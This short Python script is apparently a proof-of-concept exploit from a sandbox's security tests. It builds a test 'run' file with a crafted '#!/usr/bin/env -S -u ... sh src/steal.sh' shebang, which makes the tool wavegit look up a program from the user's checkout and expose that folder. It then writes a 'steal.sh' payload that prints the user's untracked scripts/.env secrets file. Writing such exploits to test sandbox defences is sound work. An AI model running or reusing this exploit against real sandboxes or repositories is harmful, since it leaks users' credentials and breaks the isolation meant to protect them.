"""A hostile worker that has the sandbox show its item's test a folder of the user's checkout: its test
``run`` starts with ``#!/usr/bin/env -S -u scripts/deploy.sh sh src/steal.sh``. ``-u`` takes a variable's
name, so env runs ``sh src/steal.sh`` from the tree; read as the interpreter's name, ``scripts/deploy.sh`` (a
program the repository holds) was looked up from wavegit's own folder, the user's checkout, and its folder
shown.

Usage: shebang_env.py CHECKOUT [NAME] (the user's checkout, whose untracked ``scripts/.env`` it prints; NAME,
``scripts/deploy.sh`` by default, is what ``-u`` takes: CHECKOUT/scripts/deploy.sh names the program by its
absolute path)."""

from __future__ import annotations

import sys
from pathlib import Path

checkout = Path(sys.argv[1])
run = Path("run")
name = sys.argv[2] if len(sys.argv) > 2 else "scripts/deploy.sh"
run.write_text(f"#!/usr/bin/env -S -u {name} sh src/steal.sh\n")
run.chmod(0o755)
Path("src").mkdir(exist_ok=True)
Path("src/steal.sh").write_text(f"cat {checkout / 'scripts' / '.env'}\n")
